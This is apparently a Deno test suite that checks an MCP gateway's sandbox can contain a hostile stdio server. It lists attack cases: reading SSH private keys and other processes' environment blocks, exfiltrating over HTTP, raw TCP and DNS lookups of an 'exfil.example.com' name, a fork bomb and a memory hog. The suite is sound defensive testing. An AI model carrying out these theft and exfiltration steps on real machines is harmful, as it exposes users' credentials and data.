/**
 * A hostile stdio MCP server (`tests/_fixtures/hostile_stdio_server.ts`, started by `deno run`
 * and through an `npx`-style bin) attacks the machine it runs on. Each case runs its attack
 * twice: unconfined (`sandbox: "none"`), where the test asserts that the attack works on this
 * machine (the key is read, the listener counts the hit) so that the attack is known to run,
 * and in the server's bubblewrap sandbox, where the same attack must be contained. The fork
 * bomb, the memory hog and the disk filler run unconfined only at a size that is safe.
 *
 * @module
 */
import { assert, assertEquals, assertLess, assertMatch, assertNotEquals } from "@std/assert";
import { ToolRouter } from "../../../mod.ts";
import type { McpStdioServerConfig } from "../../../src/core/mcp/mod.ts";
import { createDenoGateway } from "../../../src/deno/mcp/deno_gateway.ts";
import { skipWithoutBwrap } from "../../_helpers/bwrap.ts";
import {
  fixtureReadOnly,
  hostileServer,
  type HostileWorld,
  plantHostileWorld,
  type SandboxSetting,
} from "./_hostile_world.ts";

type Outcome = Record<string, unknown> & { ok: boolean; error?: string };
type Attack = (tool: string, args?: Record<string, unknown>) => Promise<Outcome>;

/** One containment case: the attack, what shows it works unconfined, what shows containment. */
interface Case {
  name: string;
  attack(run: Attack, world: HostileWorld): Promise<Record<string, Outcome>>;
  /** Asserts the attack reached its target unconfined (absent: unsafe or meaningless there). */
  works?(outcome: Record<string, Outcome>, world: HostileWorld): void;
  contained(outcome: Record<string, Outcome>, world: HostileWorld): void;
}

const unique = () => crypto.randomUUID().slice(0, 8);

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

function refused(outcome: Outcome, what: string): void {
  assertEquals(outcome.ok, false, `${what}: ${JSON.stringify(outcome)}`);
  assert(typeof outcome.error === "string" && outcome.error.length > 0, what);
}

const CASES: Case[] = [
  {
    name: "reads ~/.ssh/id_* of the user",
    async attack(run, world) {
      const own = await run("whoami");
      return {
        own,
        ownKey: await run("read_file", { path: `${own.home}/.ssh/id_ed25519` }),
        hostKey: await run("read_file", { path: world.sshKey }),
      };
    },
    works(outcome, world) {
      assertEquals(outcome.own.home, world.home, "an unconfined server shares the user's HOME");
      assertEquals(outcome.ownKey.text, world.sshKeyText);
      assertEquals(outcome.hostKey.text, world.sshKeyText);
    },
    contained(outcome, world) {
      assertNotEquals(outcome.own.home, world.home, "a fresh home of its own");
      refused(outcome.ownKey, "its own ~/.ssh holds no key");
      refused(outcome.hostKey, "the user's key by its path");
    },
  },
  {
    name: "reads another user's files",
    attack: async (run, world) => ({ read: await run("read_file", { path: world.otherUserFile }) }),
    works: (outcome, world) => assertEquals(outcome.read.text, world.otherUserText),
    contained: (outcome) => refused(outcome.read, "another user's file"),
  },
  {
    name: "writes outside its roots",
    async attack(run, world) {
      const tag = unique();
      return {
        outside: await run("write_file", { path: `${world.outside}/planted_${tag}`, text: tag }),
        inside: await run("write_file", { path: `${world.roots}/own_${tag}`, text: tag }),
      };
    },
    async works(outcome) {
      assertEquals(outcome.outside.ok, true, JSON.stringify(outcome.outside));
      assert(await exists(outcome.outside.wrote as string), "the hostile file is on the host");
    },
    contained(outcome, world) {
      refused(outcome.outside, "a write outside its roots");
      // The write tool works: inside its roots the same write lands on the host.
      assertEquals(outcome.inside.ok, true, JSON.stringify(outcome.inside));
      assert(
        Deno.readDirSync(world.outside).every((entry) => !entry.name.startsWith("planted_")),
        "nothing planted outside its roots",
      );
      assert(Deno.statSync(outcome.inside.wrote as string).isFile, "its own write reached roots");
    },
  },
  {
    name: "reads the host's environment",
    async attack(run, world) {
      return {
        env: await run("env"),
        host: await run("read_file", { path: `/proc/${Deno.pid}/environ` }),
        // The user's other processes (a shell holding cloud keys): a sibling with the secret.
        sibling: await run("read_file", { path: `/proc/${world.siblingPid}/environ` }),
      };
    },
    works(outcome, world) {
      assertEquals(outcome.host.ok, true, "the host's own environment block");
      assert((outcome.sibling.text as string).includes(world.secret), "the planted secret");
    },
    contained(outcome, world) {
      assertEquals(outcome.env.ok, true);
      assert(!JSON.stringify(outcome.env).includes(world.secret), "not in its environment");
      refused(outcome.host, "the host's /proc/<pid>/environ");
      refused(outcome.sibling, "another process's /proc/<pid>/environ");
    },
  },
  {
    // Its pipes are handed to bubblewrap at the launch: nothing else the launch or the
    // supervisor held (the supervisor's frames, the other pipes) may reach it.
    name: "holds a descriptor beyond its own stdin, stdout and stderr",
    async attack(run) {
      return { fds: await run("descriptors") };
    },
    works(outcome) {
      const fds = outcome.fds.fds as Record<string, string>;
      for (const fd of ["0", "1", "2"]) assertMatch(fds[fd], /^pipe:/, `its fd ${fd}`);
    },
    contained(outcome) {
      const fds = outcome.fds.fds as Record<string, string>;
      for (const fd of ["0", "1", "2"]) assertMatch(fds[fd], /^pipe:/, `its fd ${fd}`);
      const own = new Set([fds["0"], fds["1"], fds["2"]]);
      assertEquals(own.size, 3, `three pipes of its own: ${JSON.stringify(fds)}`);
      // Deno opens its own descriptors (its event loop, caches, copies of its stdio); a pipe it
      // did not get as stdin, stdout or stderr came from the launch: the supervisor's frames,
      // the host's pipes, a descriptor the host itself inherited.
      for (const [fd, target] of Object.entries(fds)) {
        if (target.startsWith("pipe:")) {
          assert(own.has(target), `fd ${fd} leads to ${target}: ${JSON.stringify(fds)}`);
        }
      }
    },
  },
  {
    name: "reads /proc/<pid>/cmdline of other processes",
    async attack(run, world) {
      return {
        list: await run("processes", { match: "sleep 600" }),
        // By its pid: the host's command line names this file only when it was named itself.
        host: await run("read_file", { path: `/proc/${Deno.pid}/cmdline` }),
        sibling: await run("read_file", { path: `/proc/${world.siblingPid}/cmdline` }),
      };
    },
    works(outcome, world) {
      const seen = outcome.list.processes as { pid: number; cmdline: string }[];
      assert(
        seen.some((p) => p.pid === world.siblingPid && p.cmdline.endsWith("sleep 600")),
        JSON.stringify(outcome.list),
      );
      assert(
        (outcome.host.text as string).includes("deno"),
        `the host itself: ${JSON.stringify(outcome.host)}`,
      );
      assert((outcome.sibling.text as string).endsWith("sleep\x00600\x00"), "the sibling's argv");
    },
    contained(outcome, world) {
      const seen = outcome.list.processes as { pid: number; cmdline: string }[];
      assert((outcome.list.count as number) > 0, "it listed its own processes");
      assertEquals(seen, [], "not the user's other processes");
      refused(outcome.host, "the host's cmdline");
      refused(outcome.sibling, "another process's cmdline");
      assertNotEquals(world.siblingPid, 0);
    },
  },
  {
    name: "connects to an unlisted host by HTTP",
    async attack(run, world) {
      const path = `/exfiltrate-${unique()}`;
      return {
        fetch: {
          ...await run("http_fetch", { url: `http://127.0.0.1:${world.http.port}${path}` }),
        },
        path: { ok: true, path },
      };
    },
    works(outcome, world) {
      assertEquals(outcome.fetch.status, 200, JSON.stringify(outcome.fetch));
      assert(world.http.hits.includes(outcome.path.path as string));
    },
    contained(outcome, world) {
      assertNotEquals(outcome.fetch.status, 200, JSON.stringify(outcome.fetch));
      assertEquals(world.http.hits.filter((hit) => hit === outcome.path.path), []);
    },
  },
  {
    name: "connects to an unlisted host by CONNECT through the proxy",
    async attack(run, world) {
      return {
        address: await run("proxy_connect", { target: `127.0.0.1:${world.tcp.port}` }),
        name: await run("proxy_connect", { target: `localhost:${world.tcp.port}` }),
      };
    },
    // Unconfined there is no proxy to ask: the raw TCP case shows the host is reachable.
    contained(outcome, world) {
      // The request reached the proxy, which answered and refused.
      assertMatch(outcome.address.status as string, /^HTTP\/1\.[01] 403/, JSON.stringify(outcome));
      assertMatch(outcome.name.status as string, /^HTTP\/1\.[01] 403/, JSON.stringify(outcome));
      assertEquals(world.tcp.hits.filter((hit) => hit.startsWith("CONNECT")), []);
    },
  },
  {
    name: "connects to an unlisted host by raw TCP",
    async attack(run, world) {
      const data = `exfiltrate-${unique()}`;
      return {
        send: await run("tcp_send", { hostname: "127.0.0.1", port: world.tcp.port, data }),
        data: { ok: true, data },
      };
    },
    works(outcome, world) {
      assertMatch(outcome.send.answer as string, /reached the host's raw TCP/);
      assert(world.tcp.hits.includes(outcome.data.data as string));
    },
    contained(outcome, world) {
      refused(outcome.send, "raw TCP to the host's loopback");
      assert(!world.tcp.hits.includes(outcome.data.data as string));
    },
  },
  {
    name: "resolves a name to exfiltrate data by DNS",
    async attack(run, world) {
      const name = `secret-${unique()}.exfil.example.com`;
      return {
        recorded: await run("resolve", { name, port: world.dns.port }),
        system: await run("resolve", { name }),
        name: { ok: true, name },
      };
    },
    works(outcome, world) {
      assert(world.dns.hits.includes(outcome.name.name as string), "the query left the server");
    },
    contained(outcome, world) {
      refused(outcome.recorded, "a query to a name server");
      refused(outcome.system, "a query to the system's resolver");
      assert(!world.dns.hits.includes(outcome.name.name as string), "no query reached the host");
    },
  },
  {
    name: "signals the host and the user's other processes",
    async attack(run, world) {
      return {
        host: await run("signal", { pid: Deno.pid, signal: "SIGCONT" }),
        sibling: await run("signal", { pid: world.siblingPid, signal: "SIGCONT" }),
      };
    },
    works(outcome) {
      assertEquals(outcome.host.ok, true, JSON.stringify(outcome.host));
      assertEquals(outcome.sibling.ok, true, JSON.stringify(outcome.sibling));
    },
    contained(outcome) {
      refused(outcome.host, "a signal to the host");
      refused(outcome.sibling, "a signal to another process");
    },
  },
  {
    name: "traces the host (its memory map, which needs ptrace access)",
    attack: async (run) => ({ maps: await run("read_file", { path: `/proc/${Deno.pid}/maps` }) }),
    works: (outcome) => assertMatch(outcome.maps.text as string, /deno/),
    contained: (outcome) => refused(outcome.maps, "the host's memory map"),
  },
  {
    name: "fills the disk of its temporary folder",
    async attack(run) {
      // Unconfined, only a few MiB: the point there is that the write runs.
      return { small: await run("fill_disk", { mib: 4 }) };
    },
    works: (outcome) => assertEquals(outcome.small.writtenMiB, 4, JSON.stringify(outcome.small)),
    contained: (outcome) => assertEquals(outcome.small.writtenMiB, 4, "a small file is fine"),
  },
];

/** Connects a gateway to the servers and runs `tool` on `server` (prefixed when several). */
async function hostileGateway(servers: Record<string, McpStdioServerConfig>) {
  const gateway = createDenoGateway({ servers, requestTimeoutMs: 60_000 });
  const ids = Object.keys(servers);
  const toolSet = await new ToolRouter({ gateway }).expose({ mcpServers: ids });
  assertEquals(toolSet.missing, [], JSON.stringify(gateway.status()));
  const attacker = (server: string): Attack => async (tool, args = {}) => {
    const result = await toolSet.call(ids.length > 1 ? `${server}_${tool}` : tool, args);
    if (result.isError) return { ok: false, error: `${result.code}: ${result.text}` };
    return JSON.parse(result.text) as Outcome;
  };
  return { gateway, toolSet, attacker };
}

const SANDBOXED = (world: HostileWorld): SandboxSetting => ({
  roots: [world.roots],
  readOnly: fixtureReadOnly(),
  network: { allow: ["registry.npmjs.org"] },
  limits: { processes: 256, memoryMiB: 1024 },
});

for (const mode of ["unconfined", "sandboxed"] as const) {
  Deno.test({
    name: mode === "unconfined"
      ? "a hostile stdio server run unconfined reaches what each containment case protects"
      : "a hostile stdio server in its sandbox is contained in every case, by deno run and npx",
    ignore: mode === "sandboxed" && skipWithoutBwrap(),
    sanitizeResources: false,
    sanitizeOps: false,
    async fn(t) {
      await using world = await plantHostileWorld();
      const sandbox = mode === "unconfined" ? "none" : SANDBOXED(world);
      const { gateway, attacker } = await hostileGateway({
        deno: hostileServer(sandbox),
        npx: hostileServer(sandbox, { npx: true }),
      });
      try {
        for (const start of ["deno", "npx"]) {
          for (const test of CASES) {
            await t.step(`${start}: ${test.name}`, async () => {
              const outcome = await test.attack(attacker(start), world);
              if (mode === "unconfined") await test.works?.(outcome, world);
              else await test.contained(outcome, world);
            });
          }
        }
      } finally {
        await gateway.close();
      }
    },
  });
}

Deno.test({
  name: "a hostile stdio server's fork bomb stops at its process limit and the host survives",
  ignore: skipWithoutBwrap(),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using world = await plantHostileWorld();
    const count = 200;
    {
      const { gateway, attacker } = await hostileGateway({ bomb: hostileServer("none") });
      const outcome = await attacker("bomb")("fork_bomb", { count, seconds: 3 });
      await gateway.close();
      assertEquals(
        outcome.started,
        count,
        `unconfined it gets them all: ${JSON.stringify(outcome)}`,
      );
    }
    const { gateway, attacker } = await hostileGateway({
      bomb: hostileServer({
        roots: [world.roots],
        readOnly: fixtureReadOnly(),
        limits: { processes: 64 },
      }),
    });
    try {
      const outcome = await attacker("bomb")("fork_bomb", { count, seconds: 30 });
      // Either the fork failed inside the server, or the server itself died of it: both contained.
      if (outcome.ok) {
        assertLess(outcome.started as number, count, JSON.stringify(outcome));
        assert(typeof outcome.error === "string", "the fork that failed says why");
      } else {
        assertMatch(outcome.error!, /^upstream_unavailable/, JSON.stringify(outcome));
      }
      // The host still starts processes.
      const probe = await new Deno.Command("true").output();
      assert(probe.success, "the host can still fork");
    } finally {
      await gateway.close();
    }
  },
});

Deno.test({
  name: "a hostile stdio server's memory hog is killed at its memory limit and reported",
  ignore: skipWithoutBwrap(),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using world = await plantHostileWorld();
    {
      const { gateway, attacker } = await hostileGateway({ hog: hostileServer("none") });
      const outcome = await attacker("hog")("memory_hog", { mib: 192 });
      await gateway.close();
      assertEquals(outcome.allocatedMiB, 192, `unconfined it gets it: ${JSON.stringify(outcome)}`);
    }
    const { gateway, attacker } = await hostileGateway({
      hog: hostileServer({
        roots: [world.roots],
        readOnly: fixtureReadOnly(),
        limits: { memoryMiB: 1024 },
      }),
    });
    try {
      const asked = 1536;
      const outcome = await attacker("hog")("memory_hog", { mib: asked });
      if (outcome.ok) {
        // The allocation past the limit failed inside the server, which lives on.
        assertLess(outcome.allocatedMiB as number, asked, JSON.stringify(outcome));
        assertMatch(outcome.error!, /allocation failed|memory/i, JSON.stringify(outcome));
        const after = await attacker("hog")("memory_hog", { mib: 1 });
        assertEquals(after.allocatedMiB, 1, "the server still answers");
      } else {
        // The server was killed at the limit: reported like any server that went away.
        assertMatch(outcome.error!, /^upstream_unavailable/, JSON.stringify(outcome));
        // Why, in the call or in status(): see stdio_sandbox_memory_limit_test.ts.
        assertEquals(gateway.status().find((entry) => entry.id === "hog")!.state, "failed");
      }
    } finally {
      await gateway.close();
    }
  },
});

Deno.test({
  name: "a hostile stdio server cannot fill the disk past its temporary folder's bound",
  ignore: skipWithoutBwrap(),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using world = await plantHostileWorld();
    const { gateway, attacker } = await hostileGateway({
      disk: hostileServer({ roots: [world.roots], readOnly: fixtureReadOnly() }),
    });
    try {
      const asked = 4096;
      const small = await attacker("disk")("fill_disk", { mib: 2 });
      assertEquals(small.writtenMiB, 2, `the write runs: ${JSON.stringify(small)}`);
      const outcome = await attacker("disk")("fill_disk", { mib: asked });
      assertEquals(outcome.ok, true, JSON.stringify(outcome));
      assertLess(outcome.writtenMiB as number, asked, JSON.stringify(outcome));
      assert(typeof outcome.error === "string", JSON.stringify(outcome));
    } finally {
      await gateway.close();
    }
  },
});

Deno.test({
  name: "a hostile stdio server cannot read another sandboxed server's files",
  ignore: skipWithoutBwrap(),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    await using world = await plantHostileWorld();
    const rootsA = `${world.roots}/a`;
    const rootsB = `${world.roots}/b`;
    await Deno.mkdir(rootsA);
    await Deno.mkdir(rootsB);
    const own = (roots: string): SandboxSetting => ({
      roots: [roots],
      readOnly: fixtureReadOnly(),
    });
    for (const mode of ["unconfined", "sandboxed"] as const) {
      const { gateway, attacker } = await hostileGateway({
        a: hostileServer(mode === "unconfined" ? "none" : own(rootsA)),
        b: hostileServer(mode === "unconfined" ? "none" : own(rootsB)),
      });
      try {
        const path = `${rootsA}/a_private_${mode}.txt`;
        const wrote = await attacker("a")("write_file", { path, text: `a's data ${mode}` });
        assertEquals(wrote.ok, true, `a writes in its own roots: ${JSON.stringify(wrote)}`);
        const read = await attacker("b")("read_file", { path });
        if (mode === "unconfined") assertEquals(read.text, `a's data ${mode}`);
        else refused(read, "another server's roots");
      } finally {
        await gateway.close();
      }
    }
  },
});
